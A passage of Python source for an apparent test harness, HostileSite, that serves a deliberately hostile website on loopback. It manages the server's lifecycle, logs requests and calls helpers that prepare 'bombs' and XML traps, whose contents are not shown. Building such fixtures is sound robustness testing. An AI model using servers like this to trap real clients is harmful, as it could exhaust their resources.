        """Bind, serve in a background thread; return the start URL."""
        if self._server is not None:
            return self.start_url
        try:
            server = HostileServer((self.host, self.port), HostileHandler)
        except OSError as exc:
            why = ("address already in use" if exc.errno == errno.EADDRINUSE
                   else "address not available (127.0.0.0/8 must route to loopback)" if exc.errno == errno.EADDRNOTAVAIL
                   else exc.strerror or str(exc))
            raise OSError(exc.errno, f"cannot serve the hostile site on {self.host}:{self.port}: {why}") from exc
        self.port = server.server_address[1]
        prepare_bombs()
        server.site = self
        server.xml = xml_traps(self.base_url)
        self._stopping.clear()
        self._server = server
        self._thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                                        name="hostile-site", daemon=True)
        self._thread.start()
        return self.start_url

    def stop(self) -> None:
        """Release stalled handlers, stop serving, free the address; safe to call twice."""
        self._stopping.set()
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)
        self._server, self._thread = None, None

    def __enter__(self) -> HostileSite:
        self.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self.stop()

    # -- what it serves and saw -------------------------------------------------------------------------

    @property
    def base_url(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def start_url(self) -> str:
        return self.base_url + "/"

    def url(self, path: str) -> str:
        return self.base_url + path

    def _record(self, entry: HostileRequest) -> None:
        with self._lock:
            if len(self._log) < REQUEST_LOG_SIZE:
                self._log.append(entry)

    @property
    def requests(self) -> list[HostileRequest]:
        with self._lock:
            return list(self._log)

    def count(self, prefix: str) -> int:
        """How many requests had a path starting with `prefix`."""
        return sum(1 for r in self.requests if r.path.startswith(prefix))

    def clear_requests(self) -> None:
        with self._lock:
            self._log.clear()


def main(port: int = 8121) -> None:
    """Serve until Ctrl-C; print the start URL."""
    import signal

    site = HostileSite(port=port)
    print(site.start(), flush=True)
    stop = threading.Event()
    for signum in (signal.SIGINT, signal.SIGTERM):
        signal.signal(signum, lambda *_: stop.set())
    try:
        while not stop.wait(1.0):
            pass
    finally:
        site.stop()


if __name__ == "__main__":
    import sys

    main(int(sys.argv[sys.argv.index("--port") + 1]) if "--port" in sys.argv else 8121)
